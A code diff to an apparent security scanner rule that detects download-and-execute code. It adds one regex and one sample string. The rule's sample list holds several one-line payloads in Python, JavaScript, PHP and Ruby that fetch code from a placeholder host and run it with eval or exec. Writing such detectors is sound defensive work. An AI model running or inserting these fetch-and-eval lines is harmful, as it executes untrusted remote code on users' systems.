@@ -24,6 +24,7 @@ export const rule: Rule = {
       window: 700,
     },
     { re: /(?<![\w.$])eval\s*\(\s*\(?\s*await\s*\(?\s*\(?\s*(?:await\s*)?\(?\s*fetch\s*\(/ },
+    { re: /(?<![\w.$])eval\s*\(\s*fetch\s*\(\s*["'`]https?:/ },
     { re: /\.then\((?:eval|Function)\)/ },
     {
       re: /require\(\s*\\?["'](?:node:)?https?\\?["']\s*\)\.get\([^\n]*(?:eval\(|new\s+Function\(|execSync\(|child_process)/,
@@ -46,6 +47,7 @@ export const rule: Rule = {
       'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://files.invalid/p\').read())"',
       "__import__('os'); exec(__import__('urllib.request').request.urlopen('https://files.invalid/p').read())",
       "eval(await (await fetch('https://files.invalid/p.js')).text())",
+      "eval(fetch('https://files.invalid/p.js'))",
       "fetch('https://files.invalid/p').then(r => r.text()).then(eval)",
       "<?php eval('?>'.file_get_contents('https://files.invalid/p.txt'));",
       'ruby -e \'eval(URI.open("https://files.invalid/p").read)\'',
